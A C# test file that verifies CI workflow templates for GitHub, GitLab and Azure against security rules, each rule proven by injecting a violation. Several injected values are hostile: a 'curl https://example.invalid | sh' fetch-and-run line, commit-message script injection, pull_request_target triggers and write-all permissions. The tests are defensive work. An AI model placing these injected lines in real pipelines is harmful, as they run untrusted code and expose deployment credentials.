using Pipeline.Tests.Configuration;

namespace Pipeline.Tests.Ci;

/// <summary>The ready workflow files and this repository's own; each rule is proven with a file that breaks it.</summary>
public sealed class WorkflowFileTests
{
    private const string GitHub = "docs/ci/github.yml";
    private const string GitLab = "docs/ci/gitlab.yml";
    private const string Azure = "docs/ci/azure.yml";
    private const string Own = ".github/workflows/ci.yml";
    private static readonly string[] OwnLines = [".ci/run", """pip install "awscli==1.45.11" "boto3==1.43.11" "cfn-lint==1.51.0" "moto[server]==5.2.1" """.TrimEnd()];

    [TestCase(GitHub)]
    [TestCase(GitLab)]
    [TestCase(Azure)]
    [TestCase(Own)]
    public void The_file_holds_to_every_rule(string file) => Assert.That(Violations(file, Read(file)), Is.Empty);

    [Test]
    public void No_workflow_is_left_out() =>
        Assert.That(Directory.GetFiles(Path.Combine(Repository.Root, ".github", "workflows")).Select(Path.GetFileName), Is.EqualTo(new[] { Path.GetFileName(Own) }));

    [TestCase(GitHub, "@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0", "@v5", "not pinned by commit")]
    [TestCase(GitHub, "@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0", "@08c6903cd8c0fde910a37f88322edcfb5dd907a8", "with its version")]
    [TestCase(GitHub, "@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0", "@08c6903 # v5.0.0", "not pinned by commit")]
    [TestCase(GitHub, "\npermissions: {}\n", "\n", "no explicit permissions")]
    [TestCase(GitHub, "\npermissions: {}\n", "\npermissions: write-all\n", "no explicit permissions")]
    [TestCase(GitHub, "\npermissions: {}\n", "\npermissions:\n  id-token: write\n", "the workflow: permission id-token")]
    [TestCase(GitHub, "      contents: read\n", "      contents: write\n", "checks: permission contents: write")]
    [TestCase(GitHub, "      actions: read", "      packages: write", "prod: permission packages: write")]
    [TestCase(GitHub, "      contents: read\n    concurrency", "      contents: read\n      id-token: write\n    concurrency", "checks: id-token without a use")]
    [TestCase(GitHub, "      id-token: write\n      actions: read", "      actions: read", "prod: credentials without id-token")]
    [TestCase(GitHub, "      group: pipeline-prod\n      cancel-in-progress: false", "      group: pipeline-prod\n      cancel-in-progress: true", "prod: a deployment can be cancelled")]
    [TestCase(GitHub, "      group: pipeline-prod\n      cancel-in-progress: false", "      group: pipeline-prod\n      cancel-in-progress: ${{ inputs.emergency_deploy }}", "prod: a deployment can be cancelled")]
    [TestCase(GitHub, "\npermissions: {}\n", "\npermissions: {}\nconcurrency:\n  group: all\n  cancel-in-progress: true\n", "concurrency of the workflow")]
    [TestCase(GitHub, "  pull_request:\n", "  pull_request_target:\n", "trigger pull_request_target")]
    [TestCase(GitHub, "  pull_request:\n", "  pull_request:\n  issue_comment:\n", "trigger issue_comment")]
    [TestCase(GitHub, "    timeout-minutes: 240\n", "", "prod: no timeout-minutes")]
    [TestCase(GitHub, "    timeout-minutes: 240\n", "    timeout-minutes: 2000\n", "prod: no timeout-minutes")]
    [TestCase(GitHub, "    environment: prod\n", "", "prod: deploys without an environment")]
    [TestCase(GitHub, "      github.event.pull_request.head.repo.full_name == github.repository && github.actor", "      github.actor", "dev: credentials in the reach of a fork")]
    [TestCase(GitHub, "    if: github.event_name == 'workflow_dispatch'\n", "", "prod: credentials in the reach of a fork")]
    [TestCase(GitHub, "      - run: ./build.sh --target=CI\n        env:", "      - run: ./build.sh --target=Rollback --version=${{ inputs.rollback_version }}\n        env:", "an expression in a script")]
    [TestCase(GitHub, "      - run: ./build.sh --target=CI\n        env:", "      - run: echo ${{ github.event.head_commit.message }}\n        env:", "an expression in a script")]
    [TestCase(GitHub, "      - run: ./build.sh --target=CI\n        env:", "      - run: |\n          ./build.sh --target=CI\n          curl https://example.invalid | sh\n        env:", "is no call of ./build.sh")]
    [TestCase(GitHub, "      - run: ./build.sh --target=CI\n        env:", "      - run: ./build.sh --target=CI || true\n        env:", "is more than options")]
    [TestCase(GitHub, "      - run: ./build.sh --target=CI\n        env:", "      - run: ./build.sh --target=Deploy\n        env:", "there is no target Deploy")]
    [TestCase(GitHub, "      - run: ./build.sh --target=CI\n        env:", "      - run: ./build.sh --target=CI --enviroment=prod\n        env:", "there is no option --enviroment")]
    [TestCase(GitHub, "          persist-credentials: false\n", "", "leaves its token behind")]
    [TestCase(GitHub, "          fetch-depth: 0\n", "", "whole history")]
    [TestCase(GitHub, "    environment: staging\n", "    environment: prod\n", "a cache on the way to production")]
    [TestCase(Own, ".ci/run", ".ci/run; curl https://example.invalid", "is no call of ./build.sh")]
    [TestCase(Own, "permissions:\n  contents: read", "permissions:\n  contents: write", "permission contents: write")]
    [TestCase(Own, "    timeout-minutes: 60\n", "", "no timeout-minutes")]
    [TestCase(GitLab, "  timeout: 4h\n", "", "prod: no timeout")]
    [TestCase(GitLab, "  interruptible: false\n", "", "prod: a deployment can be cancelled")]
    [TestCase(GitLab, "  resource_group: prod\n", "", "prod: a deployment can be cancelled")]
    [TestCase(GitLab, " && $CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID", "", "dev: credentials in the reach of a fork")]
    [TestCase(GitLab, "checks: # code of strangers: no credentials\n  extends: .pipeline", "checks:\n  extends: .aws", "checks: a token without an environment")]
    [TestCase(GitLab, "    - ./build.sh --target=CI\n", "    - ./build.sh --target=CI\n    - echo \"$CI_COMMIT_MESSAGE\"\n", "is no call of ./build.sh")]
    [TestCase(GitLab, "  extends: .aws\n  environment:\n    name: prod\n", "  extends: [.aws, .cached]\n  environment:\n    name: prod\n", "prod: a cache on the way to production")]
    [TestCase(GitLab, "  GIT_DEPTH: \"0\"", "  GIT_DEPTH: \"20\"", "whole history")]
    [TestCase(GitLab, "  resource_group: watch\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"schedule\"\n", "  resource_group: watch\n", "watch: runs at every event")]
    [TestCase(Azure, "lockBehavior: sequential", "lockBehavior: runLatest", "cancelled by another run")]
    [TestCase(Azure, "        timeoutInMinutes: 240\n", "", "prod: no timeout")]
    [TestCase(Azure, "        environment: prod\n", "", "prod: deploys without an environment")]
    [TestCase(Azure, "eq(variables['Build.Reason'], 'PullRequest'), eq(variables['System.PullRequest.IsFork'], 'False')", "eq(variables['Build.Reason'], 'PullRequest'), eq(1, 1)", "dev: credentials in the reach of a fork")]
    [TestCase(Azure, "    condition: eq(variables['Build.Reason'], 'Manual')\n", "", "prod: credentials in the reach of a fork")]
    [TestCase(Azure, "          - bash: ./build.sh --target=CI\n", "          - bash: echo \"$(Build.SourceVersionMessage)\"\n", "is no call of ./build.sh")]
    [TestCase(Azure, "fetchDepth: 0", "fetchDepth: 1", "shallow")]
    public void A_file_that_breaks_a_rule_is_found(string file, string good, string bad, string violation)
    {
        var text = Read(file);
        Assert.That(text, Does.Contain(good), "this test breaks the file at a place that is there");

        Assert.That(Violations(file, text.Replace(good, bad, StringComparison.Ordinal)), Has.Some.Contains(violation));
    }

    private static IReadOnlyList<string> Violations(string file, string text) => file switch
    {
        GitLab => GitLabRules.Violations(text),
        Azure => AzureRules.Violations(text),
        Own => GitHubRules.Violations(text, OwnLines),
        _ => GitHubRules.Violations(text),
    };

    private static string Read(string file) => File.ReadAllText(Path.Combine(Repository.Root, file));
}
